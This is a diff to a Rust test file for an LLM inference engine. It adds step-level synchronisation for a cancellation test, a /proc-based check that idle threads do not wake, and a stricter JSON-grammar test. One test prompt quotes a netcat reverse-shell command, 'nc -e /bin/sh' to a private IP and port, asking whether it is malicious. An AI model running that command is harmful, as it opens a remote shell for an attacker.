@@ -4,16 +4,16 @@
 use std::io::Write;
 use std::path::PathBuf;
 use std::sync::Arc;
-use std::sync::atomic::{AtomicUsize, Ordering};
-use std::time::Duration;
-
-use std::time::Instant;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::{Duration, Instant};
 
 use sotto_engine::{
     Engine, EngineConfig, EngineError, Event, FinishReason, Message, NoPacing, Phase, Priority, Prompt, Request,
-    StepHook, TemplateChoice, TemplateUsed, grammar, process_cpu_time,
+    StepHook, TemplateChoice, TemplateUsed, grammar,
 };
 use sotto_models::{GgufError, catalog, store};
+
+mod grammars;
 
 fn model(id: &str) -> PathBuf {
     let path = store::models_dir().join(catalog::find(id).expect("catalog id").file_name);
@@ -27,6 +27,15 @@ fn smollm() -> PathBuf {
 
 fn start(config: EngineConfig) -> Engine {
     Engine::start(config, Box::new(NoPacing)).expect("engine starts")
+}
+
+/// Waits until `holds` is true, looking again every 10 ms, and fails naming `what` after `limit`.
+fn wait_until(what: &str, limit: Duration, mut holds: impl FnMut() -> bool) {
+    let deadline = Instant::now() + limit;
+    while !holds() {
+        assert!(Instant::now() < deadline, "timed out after {limit:?} waiting until {what}");
+        std::thread::sleep(Duration::from_millis(10));
+    }
 }
 
 fn chat(user: &str) -> Prompt {
@@ -95,14 +104,28 @@ fn chunk_size_does_not_change_greedy_output() {
     assert_eq!(s8.prompt_tokens, s512.prompt_tokens);
 }
 
-/// Counts decode steps and slows each one a little, so a cancel lands mid-generation.
-struct CountingHook(Arc<AtomicUsize>);
+/// Counts each request's decode steps; when armed, holds the engine after the first decode
+/// step of the next request until the test lets it go, so that the test acts at a known point
+/// of a running generation.
+struct CountingHook {
+    steps: Arc<std::sync::Mutex<Vec<usize>>>,
+    armed: Arc<AtomicBool>,
+    held: std::sync::mpsc::Sender<()>,
+    go: std::sync::mpsc::Receiver<()>,
+}
 
 impl StepHook for CountingHook {
+    fn on_request_start(&mut self, _: Priority) {
+        self.steps.lock().unwrap().push(0);
+    }
+
     fn after_step(&mut self, phase: Phase, _: usize) {
         if phase == Phase::Decode {
-            self.0.fetch_add(1, Ordering::SeqCst);
-            std::thread::sleep(Duration::from_millis(5));
+            *self.steps.lock().unwrap().last_mut().expect("a request started") += 1;
+            if self.armed.swap(false, Ordering::SeqCst) {
+                self.held.send(()).unwrap();
+                self.go.recv_timeout(Duration::from_secs(120)).expect("the test lets the engine go");
+            }
         }
     }
 }
@@ -131,28 +154,32 @@ fn the_governor_learns_each_requests_priority() {
 
 #[test]
 fn closing_the_reply_channel_stops_decoding() {
-    let steps = Arc::new(AtomicUsize::new(0));
-    let engine = Engine::start(EngineConfig::new(smollm()), Box::new(CountingHook(steps.clone()))).unwrap();
+    let steps = Arc::new(std::sync::Mutex::new(Vec::new()));
+    let armed = Arc::new(AtomicBool::new(false));
+    let (held_tx, held) = std::sync::mpsc::channel();
+    let (go, go_rx) = std::sync::mpsc::channel();
+    let hook = CountingHook { steps: steps.clone(), armed: armed.clone(), held: held_tx, go: go_rx };
+    let engine = Engine::start(EngineConfig::new(smollm()), Box::new(hook)).unwrap();
     let long = Request::new(Prompt::Text("Once upon a time, in a small village, there".into()), 200);
 
     // Uncancelled, this request runs to its limit: the test below can only pass by cancelling.
     let (_, full) = engine.generate_blocking(long.clone()).unwrap();
     assert_eq!(full.finish, FinishReason::Length, "the baseline must generate all 200 tokens");
-    let baseline = steps.swap(0, Ordering::SeqCst);
-    assert!(baseline >= 190, "{baseline}");
+    assert!(steps.lock().unwrap()[0] >= 190, "{:?}", steps.lock().unwrap());
 
-    let mut events = engine.submit(long).unwrap();
-    assert!(matches!(events.blocking_recv(), Some(Event::Started)));
-    match events.blocking_recv() {
-        Some(Event::Text(_)) => {}
-        other => panic!("expected text first, got {other:?}"),
-    }
+    // The engine is held after the first decode step while the caller leaves.
+    armed.store(true, Ordering::SeqCst);
+    let events = engine.submit(long).unwrap();
+    held.recv_timeout(Duration::from_secs(120)).expect("the request reaches its first decode step");
     drop(events);
-    // The engine is free for the next request once it has noticed.
+    go.send(()).unwrap();
+    // The engine takes the next request only after it has finished with the abandoned one.
     let (_, next) = engine.generate_blocking(Request::new(Prompt::Text("Hello".into()), 1)).unwrap();
     assert_eq!(next.generated_tokens, 1);
-    let cancelled = steps.load(Ordering::SeqCst);
-    assert!(cancelled < 20, "decoding went on for {cancelled} steps after the caller left");
+    let steps = steps.lock().unwrap().clone();
+    assert_eq!(steps.len(), 3, "{steps:?}");
+    // The step it was held at, and at most the next token.
+    assert!(steps[1] <= 2, "decoding went on for {} steps after the caller left", steps[1] - 1);
 }
 
 #[test]
@@ -198,16 +225,51 @@ fn full_queue_and_oversized_prompts_are_refused() {
     assert!(matches!(third, Err(EngineError::QueueFull(1))), "{third:?}");
 }
 
+/// Every thread of this process but the calling one: (thread id, name, state, times it was
+/// switched in or out so far), from `/proc/self/task`.
+fn other_threads() -> Vec<(u32, String, char, u64)> {
+    let me = std::fs::read_link("/proc/thread-self").unwrap();
+    let me: u32 = me.file_name().unwrap().to_str().unwrap().parse().unwrap();
+    let mut threads = Vec::new();
+    for task in std::fs::read_dir("/proc/self/task").unwrap().flatten() {
+        let Ok(tid) = task.file_name().to_string_lossy().parse::<u32>() else { continue };
+        let Ok(status) = std::fs::read_to_string(task.path().join("status")) else { continue }; // exited
+        if tid == me {
+            continue;
+        }
+        let field = |name: &str| {
+            let line = status.lines().find(|l| l.starts_with(name)).unwrap_or_else(|| panic!("no {name}"));
+            line[name.len()..].trim().to_string()
+        };
+        let switches: u64 = ["voluntary_ctxt_switches:", "nonvoluntary_ctxt_switches:"]
+            .iter()
+            .map(|f| field(f).parse::<u64>().unwrap())
+            .sum();
+        let state = field("State:").chars().next().unwrap();
+        threads.push((tid, field("Name:"), state, switches));
+    }
+    threads.sort();
+    threads
+}
+
+/// Between requests the engine thread blocks on its queue (no polling, no timer) and no other
+/// thread runs: over an idle stretch, no thread of the process wakes up. What idle costs in
+/// CPU time is measured by `sotto bench governor` ("idle after the stream").
 #[test]
 fn idle_costs_nothing() {
     let engine = start(EngineConfig { threads: 2, threads_batch: 2, ..EngineConfig::new(smollm()) });
     let (_, stats) =
         engine.generate_blocking(Request::new(chat("Is `nc -e /bin/sh 10.0.0.1 4444` malicious?"), 16)).unwrap();
     assert!(stats.cpu > Duration::ZERO);
-    let before = process_cpu_time();
+    wait_until("every other thread sleeps, the engine thread on its queue", Duration::from_secs(60), || {
+        let threads = other_threads();
+        threads.iter().any(|t| t.1 == "sotto-engine") && threads.iter().all(|t| t.2 == 'S')
+    });
+    let before = other_threads();
+    // Not a synchronisation: the stretch over which nothing may happen.
     std::thread::sleep(Duration::from_secs(2));
-    let idle = process_cpu_time() - before;
-    assert!(idle < Duration::from_millis(50), "process used {idle:?} of CPU in 2 s of idle");
+    let after = other_threads();
+    assert_eq!(after, before, "threads (id, name, state, context switches) woke or came and went while idle");
 }
 
 /// Write `bytes` to a temporary `.gguf` file.
@@ -377,14 +439,11 @@ fn json_schema_output_is_valid_and_follows_the_schema() {
 
     let object = Request {
         grammar: Some(grammar::json_object()),
-        ..Request::new(chat("Describe `whoami` as a JSON object."), 48)
+        ..Request::new(chat("Describe `whoami` as a JSON object with the keys name and purpose."), 64)
     };
     let (text, stats) = engine.generate_blocking(object).unwrap();
-    if stats.finish == FinishReason::Stop {
-        assert!(serde_json::from_str::<serde_json::Value>(&text).unwrap().is_object(), "{text:?}");
-    } else {
-        assert!(text.trim_start().starts_with('{'), "{text:?}");
-    }
+    assert_eq!(stats.finish, FinishReason::Stop, "the grammar ends the object: {text:?}");
+    assert!(serde_json::from_str::<serde_json::Value>(&text).unwrap().is_object(), "{text:?}");
 }
 
 #[test]
@@ -437,8 +496,7 @@ fn keep_alive_unloads_when_idle_and_reloads_on_demand() {
     let engine = start(EngineConfig { keep_alive: Some(Duration::from_millis(300)), ..EngineConfig::new(smollm()) });
     assert!(engine.status().loaded);
     let (a, _) = engine.generate_blocking(Request::new(chat("Is `id` malicious?"), 8)).unwrap();
-    std::thread::sleep(Duration::from_millis(900));
-    assert!(!engine.status().loaded, "unloaded after keep_alive");
+    wait_until("the model is unloaded after keep_alive", Duration::from_secs(60), || !engine.status().loaded);
     let (b, _) = engine.generate_blocking(Request::new(chat("Is `id` malicious?"), 8)).unwrap();
     assert_eq!(a, b);
     assert!(engine.status().loaded);
